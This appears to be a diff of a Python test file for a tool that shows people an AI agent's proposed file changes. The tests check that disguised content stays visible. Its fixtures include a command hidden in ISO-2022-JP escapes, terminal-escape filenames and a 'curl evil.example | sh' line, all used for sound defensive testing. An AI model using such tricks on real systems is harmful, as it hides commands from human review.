@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
-"""shown.py [--slow] PROGRAM [CASE...] - what a person is shown is what is
-written: no encoding is guessed for the question, and nothing in it hides,
-moves or turns around other text, on any screen.
+"""shown.py [--slow] PROGRAM [CASE...] - a question shows what will be written:
+its encoding is not guessed, and no character hides, moves or reverses other
+text, on any screen.
 """
 import itertools
 import json
@@ -12,22 +12,22 @@ import subprocess
 import sys
 import unicodedata
 
-# Behind the standard library, which has an `encodings` of its own.
+# Appended: tests/system/encodings.py must not shadow Python's module.
 sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "system"))
 # pylint: disable=wrong-import-position
 from approvals import CAN, Asker, Person, answered, question_of, refused
 from http_page import ask, bearer, signed_in
 from port import Client, Port
 from talk import check, result_of, run
-from server import environment # talk says where it is
+from server import environment # talk.py extends sys.path
 
 DENY = {"action": "accept", "content": {"decision": "deny"}}
 
-# Kanji to one who takes it for ISO-2022-JP, a command to a shell.
+# Kanji if decoded as ISO-2022-JP, a command for a shell.
 COMMAND = ";id>pwned;#a"
 SHIFTED = f"#!/bin/sh\n: \x1b$B{COMMAND}\x1b(B\n"
 
-# Each kind of character that a person cannot see or trust.
+# Each kind of invisible or deceptive character.
 HIDDEN = {
     "\x1b": "\\x1b", "\x7f": "\\x7f", "\x9b": "\\u{9b}", "\x85": "\\u{85}",
     "\xa0": "\\u{a0}", "\xad": "\\u{ad}", "\u034f": "\\u{34f}",
@@ -39,21 +39,21 @@ HIDDEN = {
     "\ufeff": "\\u{feff}", "\uffa0": "\\u{ffa0}",
     "\U000e0041": "\\u{e0041}", "\U000e0100": "\\u{e0100}",
 }
-# In a name no line end and no tab, either.
+# In names also line ends and tabs.
 EVIL = "a\x1b]0;owned\x07\x9b2J\u202etxt\u200b\u3164\u2800\nfake  row\tb"
 PLAIN = "\\x1b]0;owned\\x07\\u{9b}2J\\u{202e}txt\\u{200b}\\u{3164}\\u{2800}" \
     "\\x0afake  row\\x09b"
 
 
 def clean(text, what):
-    """No character in it but LF and TAB is one that cannot be seen."""
+    """Fail if the text has an invisible character other than LF and TAB."""
     for c in text:
         bad = unicodedata.category(c) in ("Cc", "Zl", "Zp", "Zs") or c in HIDDEN
         check(c in " \t\n" or not bad, (what, hex(ord(c)), text))
 
 
 def screen(program, *words, cwd=None, env=None, feed=b""):
-    """What a command writes to a terminal, without the progress."""
+    """The output of a command on a terminal, without progress bars."""
     main, side = pty.openpty()
     child = subprocess.Popen(
         [str(program), *map(str, words)], cwd=cwd, stdin=side, stdout=side,
@@ -67,7 +67,7 @@ def screen(program, *words, cwd=None, env=None, feed=b""):
     while True:
         try:
             piece = os.read(main, 1 << 16)
-        except OSError: # the other side is closed
+        except OSError: # EIO: the command has exited
             break
         if not piece:
             break
@@ -110,18 +110,18 @@ def asked(options, work, path, content, **more):
 
 
 def what_a_shell_runs_is_what_is_shown(options, work):
-    """shown: escape sequences of ISO-2022-JP are no kanji in a question."""
+    """shown: a question does not decode escape sequences of ISO-2022-JP."""
     path = work / "root" / "run.sh"
     for text in asked(options, work, path, SHIFTED):
         check(COMMAND in text and "\\x1b$B" in text, text)
         clean(text, "question")
-    # Nor in the second change of a file that has them.
+    # Nor in the next change of a file that has them.
     path.write_text(SHIFTED)
     kanji = f"\x1b$B{COMMAND}\x1b(B".encode().decode("iso2022_jp")
     for text in asked(options, work, path, f"#!/bin/sh\n: {kanji}\nmore\n"):
         check(COMMAND in text and "(in iso-2022-jp)" in text, text)
     path.unlink()
-    # Nor because a file of the project says so.
+    # Nor if a file of the project configures it.
     (work / "root" / ".editorconfig").write_text(
         "[*.sh]\ncharset = iso-2022-jp\n")
     for text in asked(options, work, path, f"#!/bin/sh\n: {kanji}\n"):
@@ -129,7 +129,8 @@ def what_a_shell_runs_is_what_is_shown(options, work):
 
 
 def a_project_cannot_hide_ascii(options, work):
-    """shown: what a file of the project says to be UTF-16, GBK, Shift_JIS."""
+    """shown: a project's files configure UTF-16, GBK or Shift_JIS for ASCII
+    content."""
     root = work / "root"
     root.mkdir()
     line = "\n: ok;id>pwned;#\n"
@@ -163,9 +164,9 @@ def a_project_cannot_hide_ascii(options, work):
 
 
 def a_short_word_in_utf16_is_shown(options, work):
-    """shown: three letters with a BOM that are a command on a line of its own
-    for a shell, whose ends are in letters that are no ASCII, or are ASCII
-    line ends. The twin has such letters within a word."""
+    """shown: UTF-16 text with a BOM that a shell would run as a command,
+    because its code units contain ASCII line ends. The harmless counterpart
+    has such letters within a word."""
     path = work / "root" / "run.sh"
     path.parent.mkdir()
     bom = "\ufeff"
@@ -180,7 +181,7 @@ def a_short_word_in_utf16_is_shown(options, work):
 
 
 def lines_are_counted_in_bytes_too(options, work):
-    """shown: UTF-16 by the word of a project does not get past a rule."""
+    """shown: a project that configures UTF-16 cannot bypass a line limit."""
     root = work / "root"
     root.mkdir()
     path = root / "big.c"
@@ -201,7 +202,7 @@ def lines_are_counted_in_bytes_too(options, work):
 
 
 def what_is_missing_is_counted(options, work):
-    """shown: the lines of the whole diff that are not there, to their end."""
+    """shown: a truncated diff has the number of omitted lines."""
     root = work / "root"
     lines = [f"A{i:06}={'x' * 40}\n" for i in range(10000)]
     for text in asked(options, work, root / "f", "".join(lines)):
@@ -220,7 +221,8 @@ def what_is_missing_is_counted(options, work):
 
 
 def an_entry_names_where_it_lands(options, work):
-    """shown: a memory that is a link to another directory."""
+    """shown: a memory file in a symlinked directory is shown by its real
+    path."""
     root = work / "root"
     (root / ".claude").mkdir(parents=True)
     (root / "src").mkdir()
@@ -258,7 +260,7 @@ def the_page_and_the_history_show_the_same(options, work):
         text = screen(options.program, command, op, env=env)
         check(COMMAND in text and "\\x1b$B" in text, text)
         clean(text, command)
-    # In a pipe a diff is a patch, byte for byte.
+    # In a pipe the diff is an exact patch.
     piped = subprocess.run([options.program, "diff", op], env=env, timeout=60,
                            capture_output=True, check=True).stdout
     check(f"+: \x1b$B{COMMAND}\x1b(B\n".encode() in piped, piped)
@@ -275,7 +277,7 @@ def ordinary_text_stays_readable(options, work):
                           "これは日本語の文章です。\n漢字の変更\n"):
             check("+漢字の変更" in text and "-漢字\n" in text, text)
             check(("(in " in text) == (encoding != "utf-8"), text)
-    # The history, too, has letters rather than bytes.
+    # The history shows decoded text, too.
     server, env, ops = Asker(options, work), environment(work), []
     for name in "usew":
         made, error = result_of(server.ask(server.request(
@@ -309,7 +311,7 @@ def ordinary_text_stays_readable(options, work):
 
 
 def hidden_characters_are_spelled(options, work):
-    """shown: in content, in names, in a question and on a terminal."""
+    """shown: escaped in content and names, in a question and on a terminal."""
     root = work / "root"
     content = "".join(f"<{c}>\n" for c in HIDDEN if c != "\r")
     for text in asked(options, work, root / "f", content):
@@ -323,7 +325,7 @@ def hidden_characters_are_spelled(options, work):
 
 
 def a_reason_cannot_hide_anything(options, work):
-    """shown: the rule that asks, which a project can write."""
+    """shown: the text of a rule that asks, which a project can write."""
     root = work / "root"
     (root / ".stet").mkdir(parents=True)
     name = "".join(c for c in HIDDEN if ord(c) >= 0x80)
@@ -375,7 +377,8 @@ def a_client_cannot_write_on_the_screen(options, work):
 
 
 def names_of_files_are_spelled_everywhere(options, work):
-    """shown: stdout and stderr of every command that names a file."""
+    """shown: escaped on stdout and stderr of every command that prints file
+    names."""
     root, env = work / "root", environment(work)
     root.mkdir()
     path = root / EVIL
@@ -419,7 +422,7 @@ def names_of_files_are_spelled_everywhere(options, work):
 
 
 def settings_cannot_write_on_the_screen(options, work):
-    """shown: errors of settings, and what a project wants to have."""
+    """shown: settings errors, and the settings that `stet trust` shows."""
     root, env = work / "root", environment(work)
     (root / ".stet").mkdir(parents=True)
     settings = root / ".stet" / "config.json"
@@ -441,7 +444,7 @@ def settings_cannot_write_on_the_screen(options, work):
 
 
 def a_project_is_shown_to_its_end(options, work):
-    """shown: what a person trusts, however long it is."""
+    """shown: `stet trust` shows settings of any length completely."""
     root, env = work / "root", environment(work)
     (root / ".stet").mkdir(parents=True)
     end = "; curl evil.example | sh"
@@ -454,7 +457,7 @@ def a_project_is_shown_to_its_end(options, work):
 
 
 def json_is_the_same_on_a_terminal(options, work):
-    """shown: escapes where a terminal reads along, bytes in a pipe."""
+    """shown: JSON has escapes on a terminal, bytes in a pipe."""
     root, env = work / "root", environment(work)
     root.mkdir()
     (root / "f").write_text("<" + "".join(HIDDEN) + ">", newline="")
